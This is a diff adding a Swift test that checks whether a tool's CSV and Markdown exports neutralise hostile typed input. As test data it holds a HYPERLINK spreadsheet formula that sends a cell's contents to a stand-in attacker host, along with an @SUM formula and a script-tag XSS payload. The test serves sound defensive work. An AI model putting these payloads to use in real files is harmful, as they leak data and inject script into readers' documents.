@@ -309,4 +309,41 @@ struct TrustTests {
         #expect(notBundle.status == 65 && notBundle.stderr.contains("not a Spiegel bundle"), "\(notBundle)")
         #expect(notBundle.stderr.split(separator: "\n").count == 1, "one line: \(notBundle.stderr)")
     }
+
+    // MARK: exports
+
+    @Test func exportsCannotAttackTheirReader() throws {
+        guard Python.available else { try Test.cancel("python3 is not available") }
+        let sandbox = Sandbox("spiegel-trust")
+        let formula = #"=HYPERLINK("http://evil.example/?x="&A1,"klik")"#
+        // One entry with a formula, a number with a leading zero, and Markdown that would restructure a page.
+        let script = "start small-gesture-plan\n\(formula)\n0612345678\n@SUM(A1)\n\n# x\n---\n<script>alert(1)</script>\nin 3 days\n4\n"
+        let run = try spiegel([], input: script, sandbox: sandbox, environment: Self.env)
+        #expect(run.status == 0, "\(run)")
+        #expect(try spiegel(["export", "--format", "csv", "--output", "x.csv"], sandbox: sandbox).status == 0)
+        let parse = """
+            import csv, json, sys
+            with open(sys.argv[1], encoding="utf-8-sig", newline="") as f:
+                print(json.dumps(list(csv.reader(f, strict=True))))
+            """
+        let parsed = try runTool(["python3", "-c", parse, sandbox.root + "/x.csv"])
+        let rows = try #require(try json(parsed.stdout) as? [[String]], "\(parsed)")
+        let cells = Set(rows.flatMap { $0 })
+        #expect(cells.contains("'" + formula) && !cells.contains(formula), "a formula stays text: \(cells.filter { $0.contains("HYPER") })")
+        #expect(cells.contains { $0.contains("'0612345678") }, "a leading zero stays")
+        #expect(!cells.contains { $0.first.map { "=+-@".contains($0) } ?? false }, "no cell starts a formula")
+
+        if Python.hasMarkdownIt {
+            #expect(try spiegel(["export", "--format", "md", "--output", "x.md"], sandbox: sandbox).status == 0)
+            let structure = try Python.markdownStructure(sandbox.root + "/x.md")
+            let headings = structure["headings"] as? Int ?? -1
+            let markdown = try String(contentsOfFile: sandbox.root + "/x.md", encoding: .utf8)
+            let ownHeadings = markdown.split(separator: "\n").filter { $0.hasPrefix("#") }.count
+            #expect(headings == ownHeadings, "typed '# x' is no heading: \(headings) rendered, \(ownHeadings) written by the export")
+            #expect(structure["rules"] as? Int == 0, "typed '---' is no rule")
+            #expect(structure["html"] as? Int == 0, "typed HTML stays text")
+            let quotes = structure["quotes"] as? [String] ?? []
+            #expect(quotes.contains("# x") && quotes.contains("---") && quotes.contains { $0.hasPrefix("<script>alert(1)</script>") }, "the text reads as typed: \(quotes)")
+        }
+    }
 }
